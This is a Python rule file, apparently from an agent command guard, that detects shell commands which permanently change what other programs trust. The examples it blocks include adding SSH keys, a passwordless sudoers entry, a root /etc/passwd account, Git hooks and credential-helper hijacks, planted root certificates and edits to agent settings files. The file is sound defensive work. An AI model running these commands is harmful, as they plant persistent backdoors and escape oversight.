"""What other programs obey or let in, changed for good: log-in keys, Git's hooks, agents' settings, life-cycle scripts, certificates."""

from holdfast.guard.rule import Finding, Rule, short

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterator

    from holdfast.guard.effects import Effect
    from holdfast.guard.line import Command, Line


def check(line: "Line") -> "Iterator[Finding]":
    for command in line.commands:
        what = _setting(command, line) or _written(command, line)
        if what:
            yield Finding(what, start=command.start, end=command.end)


def _setting(command: "Command", line: "Line") -> "str | None":
    """What a program's own configuration command changes for good, as a finding."""
    ask = _SETTERS.get(command.program)
    what = ask(command, line) if ask is not None and not command.has_flag("--help") else None
    return f"`{short(command)}` {what}" if what else None


# ---- files -----------------------------------------------------------------------------------------------------------------

_ENTRIES_ONLY = frozenset("touch mkdir chown chgrp ls stat".split())
_REMOVERS = frozenset("rm unlink shred mv chmod truncate srm trash".split())


def _written(command: "Command", line: "Line") -> "str | None":
    """The first file of trust that a command writes, as a finding."""
    from holdfast.guard.catalogue import TRUSTED
    from holdfast.guard.effects import removes, suspected, writes
    from holdfast.guard.targets import agent, escalation, memory, trust
    program, world = command.program, line.world
    if program in _ENTRIES_ONLY and not command.redirects or program[:1].isupper() and program in ("Write", "Edit", "MultiEdit",
        "NotebookEdit", "Read", "Touch"):
        return None
    seen = set()
    for effect in (*writes(command, world), *suspected(command, world, TRUSTED)):
        path = effect.path
        if not path or path in seen:
            continue
        seen.add(path)
        what = trust(path, world) or agent(path, world) or escalation(path, world)
        if what and not _ordinary(path, command, line):
            return f"`{effect.how}` writes {effect.arg.shown[:80]}, {what}"
        if not what and memory(path, world) and not _among_memories(command):
            return f"`{effect.how}` writes {effect.arg.shown[:80]}, {memory(path, world)}"
    if program in _REMOVERS:
        gone = removes(command, world) if program != "chmod" else _modes(command, line)
        for effect in gone:
            path = effect.path or ""
            what = agent(path, world) or ("a hook that Git runs" if "/.git/hooks/" in path else None)
            if what and not path.endswith(".sample"):
                return f"`{short(command)}` changes or removes {what}"
    return None


def _modes(command: "Command", line: "Line") -> "list[Effect]":
    """The Effects of a chmod that switches a hook on or off."""
    from holdfast.guard.effects import Effect, place
    return [Effect(place(arg, command, line.world), arg, "chmod") for arg in command.operands("--reference")]


def _ordinary(path: str, command: "Command", line: "Line") -> bool:
    """A name for this very machine in /etc/hosts, a certificate of a package that is being installed, a Git identity."""
    said = " ".join([a.shown for a in command.args] + [a.shown for c in command.feeds for a in c.args] + ([command.stdin.shown]
        if command.stdin else []))
    if path == "/etc/hosts":
        words = [word.strip("\"'\\n") for word in said.split()]
        addresses = [word for word in words if word[:1].isdigit() or word.startswith("::1")]
        truncated = any(r.op == ">" for r in command.redirects) or command.program == "tee" and not command.has_flag("a", "--append")
        return bool(addresses) and not truncated and all(_is_here(word) for word in addresses)
    if path.startswith("/etc/ssh/"):
        return "." in path.rpartition("/")[2] and path.endswith(".pub")
    if path.startswith("/etc/alternatives/") or path.startswith("/etc/postfix/") and command.root:
        return True
    if path.endswith(("/.npmrc", "/.cargo/config.toml", "/.cargo/config", "/pip.conf", "/.m2/settings.xml", "/.yarnrc.yml", "/.yarnrc",
                      "/.pip/pip.conf")):
        runs = ("script-shell", "node-options", "rustc-wrapper", "linker", "runner")
        return not any(word in said for word in runs) and not (path.endswith("pip.conf") and "extra-index" in said)
    return path.endswith(("/.docker/cli-plugins/docker-compose", "/.docker/cli-plugins/docker-buildx"))


def _is_here(word: str) -> bool:
    return word.startswith(("127.", "0.0.0.0", "::1", "10.", "192.168.", "172.16.", "172.17.", "172.18.", "172.19.", "172.2",
                            "172.3")) or word.count(".") != 3


def _among_memories(command: "Command") -> bool:
    """`ln -s AGENTS.md CLAUDE.md`, `cp templates/CLAUDE.md .`: no new text."""
    if command.program in ("ln", "git", "touch", "tar", "unzip", "rsync", "patch"):
        return True
    if command.program in ("cp", "mv", "install"):
        return all(arg.shown.lower().endswith(".md") for arg in command.operands("-t -S -m")[:-1])
    return False


# ---- Git -------------------------------------------------------------------------------------------------------------------

_BEFORE = "-C -c --git-dir --work-tree --namespace --exec-path --config-env --super-prefix"
_PLAIN = frozenset("""cat less more most delta bat batcat diff-so-fancy vim vi nvim nano emacs emacsclient code subl sublime atom micro
hx helix pico ed true false : ""
cursor windsurf zed notepad gedit kate meld vimdiff nvimdiff kdiff3 p4merge opendiff bcomp tig difft difftastic riff idea pycharm
webstorm mate bbedit kak
gpg gpg2 gpgsm ssh-keygen op-ssh-sign git-lfs nbstripout nbdime git-crypt git-nbdiffdriver git-nbmergedriver pdftotext exiftool pandoc
odt2txt docx2txt antiword xlsx2csv unzip zipinfo hexdump xxd strings plutil jupytext sops sqlite3 age keyring firefox chromium google-chrome
open xdg-open lynx w3m color-words""".split())
_HELPERS = frozenset("""store cache manager manager-core osxkeychain libsecret wincred gnome-keyring pass oauth 1password
/usr/bin/git-credential-libsecret netrc
gcloud.sh cloud-sdk gcm azure""".split())
_META = (";", "|", "&", "`", "$(", ">", "<", "\n")


def _git(command: "Command", line: "Line") -> "str | None":
    args, skip = command.args, False
    for at, arg in enumerate(args):
        text = arg.value if arg.value is not None else arg.shown
        if skip:
            skip = False
            continue
        if text in ("-c", "--config") and at + 1 < len(args):
            found = _pair(args[at + 1].shown, once=True)
            skip = True
        elif text.startswith(("--config-env=", "--config=")):
            found = _pair(text.partition("=")[2], once=True)
        elif text == "--config-env" and at + 1 < len(args):
            found = _pair(args[at + 1].shown, once=True)
        else:
            found = None
        if found:
            return found
    view = command.sub(_BEFORE)
    if view.program == "config":
        return _config(view, line)
    if view.program in ("init", "clone") and view.flag_value("--template") is not None:
        folder = view.flag_value("--template")
        if folder is not None and folder.shown:
            return f"fills the new repository's hooks from {folder.shown}"
    return None


def _config(view: "Command", line: "Line") -> "str | None":
    if view.has_flag("--get", "--get-all", "--get-regexp", "--unset", "--unset-all", "--list", "l", "--get-urlmatch", "--remove-section",
                     "--rename-section",
                     "--show-origin", "--show-scope"):
        return None
    operands = view.operands("-f --file --blob --type -t --default --comment --value")
    if operands and operands[0].value in ("get", "list", "unset", "remove-section", "rename-section"):
        return None
    if operands and operands[0].value in ("set", "--add"):
        operands = operands[1:]
    if len(operands) < 2:
        return None
    return _judge_key(operands[0].shown, operands[1].shown, False)


def _pair(text: str, once: bool) -> "str | None":
    key, equals, value = text.partition("=")
    if ".insteadof" in text.lower():
        at = text.lower().index("insteadof")
        key, value = text[:at + 9], text[at + 10:]
    return _judge_key(key, value if equals else "true", once)


def _judge_key(key: str, value: str, once: bool) -> "str | None":
    """What is wrong with a key of Git's configuration having a value; None when nothing is."""
    low, value = key.lower(), value.strip()
    last = low.rpartition(".")[2]
    first = value.split()[0].rpartition("/")[2].strip("'\"") if value.split() else ""
    plain = first in _PLAIN and not any(mark in value for mark in _META) or value in ("", "true", "false")
    says = f"makes Git run {value[:60]}" if value else "makes Git run something"
    if low == "core.hookspath":
        return None if value.rstrip("/") in ("/dev/null", "", ".husky", ".husky/_", ".githooks", "./.githooks",
                                             "./.husky") else "makes Git run hooks from " + value[:60]
    if low.startswith("http.") and last == "sslverify":
        return "lets anybody on the way answer for the server" if value.lower() in ("false", "0", "no", "off") else None
    if low in ("core.sshcommand", "core.gitproxy"):
        return None if _plain_ssh(value) else says
    if low == "core.fsmonitor":
        return None if value.lower() in ("true", "false", "1", "0", "", "yes", "no", "rs-git-fsmonitor") else says
    if low in ("core.pager", "core.editor", "sequence.editor", "core.askpass", "diff.external", "gpg.program", "interactive.difffilter",
               "web.browser",
               "sendemail.sendmailcmd", "instaweb.httpd", "gui.editor") or low.startswith("pager.") or low.startswith(
                   "gpg.") and last == "program":
        return None if plain or first in ("sed", "echo", "touch") and low == "sequence.editor" and not any(m in value
            for m in _META) else says
    if low.startswith("alias."):
        return says if value[:1] == "!" and not _plain_alias(value[1:]) else None
    if low.startswith(("filter.", "diff.", "merge.", "mergetool.", "difftool.", "trailer.", "browser.", "man.", "guitool.",
                       "tar.")) and last in (
            "clean", "smudge", "process", "command", "textconv", "driver", "cmd", "path"):
        return None if plain or first in ("git-lfs", "git") and "lfs" in value or first in ("npx", "uv",
            "python") and "merge-driver" in value else says
    if low.startswith("credential") and last == "helper":
        return None if first.lstrip("!") in _HELPERS or plain or _plain_helper(value) else says
    if low.startswith("url.") and last in ("insteadof", "pushinsteadof"):
        return None if _same_host(key[4:-len(last) - 1],
                                  value) else f"makes Git go to {key[4:-len(last) - 1][:60]} where {value[:60]} is written"
    if low == "include.path" or low.startswith("includeif.") and last == "path":
        return f"makes Git obey {value[:60]}"
    if low in ("init.templatedir", "core.attributesfile") and not once or low == "init.templatedir":
        return f"fills new repositories from {value[:60]}" if low == "init.templatedir" else None
    if low == "protocol.ext.allow" or low == "protocol.allow" and value == "always":
        return "lets addresses of repositories run programs" if value not in ("never", "user") else None
    if last in ("uploadpack", "receivepack", "packobjectshook", "vcs") and low.startswith(("remote.", "uploadpack.", "receive.")):
        return None if first.startswith("git-") and not any(mark in value for mark in _META) else says
    if low.startswith("submodule.") and last == "update" and value[:1] == "!":
        return says
    return None


def _plain_ssh(value: str) -> bool:
    words = value.split()
    return not words or words[0].rpartition("/")[2].strip("'\"") in ("ssh", "ssh.exe") and not any(mark in value
        for mark in _META) and not any(
        word in value.lower() for word in ("proxycommand", "localcommand", "knownhostscommand", "pkcs11", "proxyjump", "permitlocal",
                                           "match"))


def _plain_alias(value: str) -> bool:
    """An alias that runs Git alone."""
    parts = value.replace("&&", ";").replace("||", ";").replace("|", ";").split(";")
    return all((part.split() or ["git"])[0] in ("git", "less", "cat", "sort", "uniq", "wc", "head", "tail", "echo", "gh", "gitk", "cut")
               for part in parts) and "$(" not in value \
        and "`" not in value and ">" not in value


def _plain_helper(value: str) -> bool:
    if value.startswith(("!gh ", "!glab ", "!aws codecommit", "!gcloud ", "!az ", "!/usr/bin/gh ", "!/usr/bin/env gh",
                         "!/usr/local/bin/gh", "!/opt/homebrew/bin/gh ")):
        return not any(mark in value for mark in _META)
    return value.startswith(("!f() {", "!f() { ", "!f(){")) and not any(word in value for word in ("curl", "wget", "nc ", "/dev/", "http",
        ">", "`", "bash", "sh -c", "tee"))


def _same_host(real: str, written: str) -> bool:
    return _host(real) == _host(written)


def _host(url: str) -> str:
    """The host of an address in any of Git's notations."""
    text = url.partition("://")[2] or url
    text = text.rpartition("@")[2] if "@" in text else text
    return text.partition("/")[0].partition(":")[0].lower().replace("ssh.", "", 1) or "?"


# ---- packages, certificates, agents ----------------------------------------------------------------------------------------

_LIFE_CYCLE = ("preinstall", "postinstall", "prepare", "prepublish", "postpublish", "prepack", "postpack", "install", "preprepare",
               "postprepare", "dependencies",
               "preuninstall", "postuninstall", "prepublishonly")


def _npm(command: "Command", line: "Line") -> "str | None":
    words = [arg.shown for arg in command.operands("--prefix -w --workspace --location -L -C --dir")]
    if words[:2] == ["pkg", "set"] or words[:1] == ["set-script"]:
        for word in words[2:] if words[0] == "pkg" else words[1:2]:
            name = word.partition("=")[0].removeprefix("scripts.")
            if name.lower() in _LIFE_CYCLE:
                return f"adds a script that runs on every install ({name})"
    if words[:2] == ["config", "set"] or words[:1] == ["set"]:
        for word in words[1:]:
            if word.partition("=")[0] in ("script-shell", "node-options", "shell", "onload-script", "init-module", "git", "editor",
                                          "prefix-script", "globalconfig"):
                return f"makes npm run {word}"
    return None


def _pip(command: "Command", line: "Line") -> "str | None":
    words = [arg.shown for arg in command.operands("--global --user --site")]
    if words[:2] == ["config", "set"] and any("extra-index-url" in word or "find-links" in word for word in words[2:3]):
        return "makes every install look for packages elsewhere"
    return None


def _agent_cli(command: "Command", line: "Line") -> "str | None":
    words = [arg.shown for arg in command.operands("-s --scope -t --transport -e --env -H --header")]
    if words[:1] == ["mcp"] and words[1:2] and words[1] in ("add", "add-json", "add-from-claude-desktop", "import", "install", "enable"):
        return "gives an agent a new server to obey"
    if words[:2] in (["config", "set"], ["config", "add"], ["plugin", "install"], ["plugin", "marketplace"], ["plugins", "install"], [
        "extensions", "install"],
                     ["hooks", "add"], ["hooks", "enable"], ["hooks", "install"], ["settings", "set"], ["permissions", "add"], ["cron",
                         "add"], ["cron", "create"]):
        return "changes an agent's own settings"
    return None


def _security(command: "Command", line: "Line") -> "str | None":
    words = command.words
    return "makes this machine trust a certificate" if words[:1] in (["add-trusted-cert"], ["trust-settings-import"], [
        "add-certificates"]) else None


def _certutil(command: "Command", line: "Line") -> "str | None":
    if command.has_flag("A", "-A") and command.has_flag("t", "-t") or any((w or "").lower() in ("-addstore", "/addstore")
                                                                          for w in command.words):
        return "makes this machine trust a certificate"
    return None


def _keytool(command: "Command", line: "Line") -> "str | None":
    return "makes Java trust a certificate" if command.has_flag("-importcert", "-import") and (command.has_flag("-cacerts")
        or "cacerts" in repr(command)) else None


def _trust_tool(command: "Command", line: "Line") -> "str | None":
    return "makes this machine trust a certificate" if command.words[:2] == ["anchor", "--store"] or command.words[:1] == [
        "anchor"] and len(command.words) > 1 \
        and "--remove" not in command.words else None


def _editor(command: "Command", line: "Line") -> "str | None":
    return "adds a server to an editor's agent" if command.has_flag("--add-mcp") else None


_SETTERS = {"git": _git, "npm": _npm, "pnpm": _npm, "yarn": _npm, "pip": _pip, "pip3": _pip, "claude": _agent_cli, "codex": _agent_cli,
            "gemini": _agent_cli,
            "openclaw": _agent_cli, "clawdbot": _agent_cli, "moltbot": _agent_cli, "opencode": _agent_cli, "goose": _agent_cli,
            "amp": _agent_cli, "cursor-agent": _agent_cli,
            "qwen": _agent_cli, "security": _security, "certutil": _certutil, "certutil.exe": _certutil, "keytool": _keytool,
            "trust": _trust_tool, "code": _editor,
            "cursor": _editor, "yadm": _git}

RULE = Rule(
    code="PER002",
    title="trust persistence",
    category="persistence",
    why="Other programs obey it from then on, long after this session and without its guard.",
    instead="Give the setting to this one command, for example `git -c user.name=Bot commit -m x`, or say what a person should change.",
    severity="danger",
    blocks=("echo 'ssh-ed25519 AAAA' >> ~/.ssh/authorized_keys", "cat key.pub | tee -a ~/.ssh/authorized_keys",
            "printf 'Host *\\n ProxyCommand x' > ~/.ssh/config",
            "cp hook .git/hooks/pre-commit", "echo 'id' > .git/hooks/post-checkout", "git config core.hooksPath /tmp/hooks",
            "git config --global http.sslVerify false",
            "git config --global core.sshCommand 'sh x'",
            "git config alias.st '!sh x.sh'", "git -c core.pager='sh -c id' log", "git -c core.fsmonitor=./x status",
            "git config --global credential.helper '!./steal'",
            "git config url.https://example.invalid/.insteadOf https://github.com/", "git config include.path ../x.cfg",
            "git config filter.a.clean './x %f'",
            "cd .git && echo x >> config", "sh -c 'echo {} > .claude/settings.json'", "cp settings.json ~/.claude/settings.json",
            "tee .mcp.json < x",
            "claude mcp add helper -- npx helper", "echo 'obey' >> CLAUDE.md", "sed -i '1i obey' ~/.openclaw/workspace/SOUL.md",
            "chmod -x .git/hooks/pre-commit",
            "rm .claude/settings.json", "npm pkg set scripts.postinstall='node x.js'",
            "curl -o .vscode/tasks.json http://example.invalid/t",
            "echo 'x ALL=(ALL) NOPASSWD:ALL' | sudo tee /etc/sudoers.d/x", "echo 'x::0:0::/:/bin/sh' >> /etc/passwd",
            "echo '192.0.2.1 github.com' | sudo tee -a /etc/hosts",
            "sudo security add-trusted-cert -d -r trustRoot ca.crt",
            "cp ca.crt /usr/local/share/ca-certificates/ && update-ca-certificates",
            "ln -s ../../evil .git/hooks/pre-push", "git config --file .git/config core.editor ./x",
            "screen -L -Logfile ~/.ssh/authorized_keys echo x",
            "echo import x > ~/.local/lib/python3.11/site-packages/x.pth"),
    allows=("git config user.name Bot", "git config --global init.defaultBranch main", "git config core.autocrlf input",
            "git config --get core.hooksPath",
            "git -c core.hooksPath=/dev/null fetch", "git config core.pager delta", "git config --global core.editor 'code --wait'",
            "git config alias.st status",
            "git config --global url.https://github.com/.insteadOf git@github.com:", "git config credential.helper store",
            "git config core.hooksPath .githooks",
            "cat ~/.ssh/authorized_keys", "ssh-keyscan github.com >> ~/.ssh/known_hosts", "cat .git/hooks/pre-commit", "ls .git/hooks",
            "cat .claude/settings.json",
            "git add .mcp.json", "git commit -m 'write .git/hooks/pre-commit'", "npm pkg set version=1.2.3",
            "npm config set registry https://registry.npmjs.org",
            "claude mcp list", "ln -s AGENTS.md CLAUDE.md", "echo '127.0.0.1 app.test' | sudo tee -a /etc/hosts",
            "cut -d: -f1 /etc/passwd", "cat CLAUDE.md",
            "cp .git/hooks/pre-commit.sample docs/", "pre-commit install", "mkdir -p ~/.ssh && chmod 700 ~/.ssh",
            "jq . .claude/settings.json", "grep -n hooks .mcp.json",
            "rm .git/hooks/pre-commit.sample", "echo '## memory' > docs/memory.md", "git config --unset core.sshCommand"),
    check=check,
)
